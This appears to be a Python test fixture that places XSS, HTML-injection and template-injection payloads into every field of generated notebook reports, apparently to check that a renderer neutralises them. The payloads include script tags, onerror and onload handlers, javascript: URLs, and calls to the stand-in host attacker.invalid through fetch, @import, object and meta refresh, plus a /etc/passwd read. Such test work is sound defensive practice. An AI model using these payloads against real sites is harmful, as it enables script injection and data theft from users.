"""Payloads: text that tries to act, in every place where text of a client can stand."""

from __future__ import annotations

from nbformat import NotebookNode

from .reports import SVG, block, figure, png, prose, report, shown, table, tree

FIRE = "window.fired=1;alert(1);fetch('http://attacker.invalid/x')"
PAYLOADS = (
    f"<script>{FIRE}</script>",
    f'<img src=x onerror="{FIRE}">',
    f'<svg onload="{FIRE}">',
    f"<svg><script>{FIRE}</script></svg>",
    f'"><script>{FIRE}</script>',
    f"'><img src=x onerror={FIRE}>",
    f'" onmouseover="{FIRE}" autofocus onfocus="{FIRE}" x="',
    f"</title><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"</caption></table><script>{FIRE}</script>",
    f'</text></svg><img src=x onerror="{FIRE}">',
    f"]]><script>{FIRE}</script>",
    f"--><script>{FIRE}</script>",
    f'<iframe srcdoc="<script>parent.{FIRE}</script>"></iframe>',
    f'<iframe src="javascript:{FIRE}"></iframe>',
    '<object data="http://attacker.invalid/o"></object>',
    '<link rel=stylesheet href="http://attacker.invalid/c">',
    "<style>@import url(http://attacker.invalid/s);body{background:url(http://attacker.invalid/b)}</style>",
    '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    '<base href="http://attacker.invalid/">',
    f'<details open ontoggle="{FIRE}">x</details>',
    f'<math><mtext></mtext><img src=x onerror="{FIRE}"></math>',
    f'<form action="javascript:{FIRE}"><input autofocus onfocus="{FIRE}"></form>',
    f"{{{{ ''.__class__ }}}}{{% for x in [1] %}}<script>{FIRE}</script>{{% endfor %}}",
    f'[x](javascript:{FIRE}) ![x](http://attacker.invalid/i.png) <http://attacker.invalid/a" onclick="x>',
    f'#panic() #read("/etc/passwd") $ x $ `raw` <script>{FIRE}</script>',
)
DRAWINGS = (
    SVG.replace("<g ", f'<g onload="{FIRE.replace(chr(39), "")}" ', 1),
    SVG.replace("</svg>", f"<script>{FIRE.replace('&', '')}</script></svg>"),
    SVG.replace("</svg>", "<image href='http://attacker.invalid/i.png' width='9' height='9'/></svg>"),
    SVG.replace("</svg>", f'<a href="javascript:{FIRE}"><text>x</text></a></svg>'),
    SVG.replace("采购部尚未对齐", "&lt;img src=x onerror=window.fired=1&gt;"),
)
MIMES = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "text/vnd.mermaid",
    "image/svg+xml",
    "application/javascript",
    "application/json",
)


def cells(payload: str) -> list[NotebookNode]:
    """One payload in every kind of cell and output."""
    titled = dict.fromkeys(("title", "subtitle", "note", "source"), payload)
    return [
        figure(alt=payload, **titled),
        table([[payload, payload]], (payload, "b"), **titled),
        block("callout", tone=payload, title=payload, text=payload),
        block("kpis", items=[{"value": payload, "label": payload, "note": payload}]),
        block("findings", ordered=False, items=[{"lead": payload, "text": payload}]),
        block("paragraphs", items=[payload]),
        prose(payload, "zh"),
        prose(f"## {payload}\n\n- {payload}\n\n> {payload}\n\n`{payload}`", "zh"),
        *(shown({mime: payload, "text/plain": payload}) for mime in MIMES),
        shown(
            {
                "text/html": f"<table class='dataframe'><tr><th>{payload}</th></tr><tr><td>{payload}</td></tr></table>"
            }
        ),
    ]


def hostile_trees() -> NotebookNode:
    """A report with every payload in every field of a tree, at two nodes of it."""
    return report(*(hostile_tree(payload) for payload in PAYLOADS), tree_of_pages())


def hostile_tree(payload: str) -> NotebookNode:
    """A tree that says nothing but one payload."""
    said = dict.fromkeys(("text", "label", "unit", "owner", "type", "through"), payload)
    one = {**said, "id": payload, "parent": payload, "level": "company", "status": "confirmed", "krs": []}
    two = {
        **said,
        "id": payload + "2",
        "parent": payload,
        "level": payload,
        "status": payload,
        "refs": [{"id": payload, "key_result": "", "status": payload}, {"id": "x", "key_result": payload}],
        "krs": [{"id": payload, "text": payload}],
    }
    names = ("search", "expand", "collapse", "results", "keys", "refs", "through", "below", "legend")
    labels = {
        **dict.fromkeys(names, payload),
        "status": {"confirmed": payload, payload: payload},
        "marks": {"confirmed": payload},
    }
    titled = dict.fromkeys(("title", "subtitle", "note", "source"), payload)
    drawn = [{"title": payload, "alt": payload, "svg": SVG, "png": ""}]
    return tree(one, two, labels=labels, drawn=drawn, **titled)


def tree_of_pages() -> NotebookNode:
    """A tree whose drawings try to act: they are left out for pixels, as those of figures are."""
    pages = [{"title": "x", "alt": PAYLOADS[4], "svg": svg, "png": png()} for svg in DRAWINGS]
    return tree({"id": "a", "level": "company", "text": "a"}, drawn=pages)


def hostile() -> NotebookNode:
    """A report with every payload in every place."""
    extra = [cell for payload in PAYLOADS for cell in cells(payload)]
    extra += [figure(svg=svg, title="x", alt=PAYLOADS[4]) for svg in DRAWINGS]
    everything = " ".join(PAYLOADS)
    names = ("title", "subtitle", "client", "org", "date", "confidentiality", "notice")
    return report(*extra, **dict.fromkeys(names, everything))
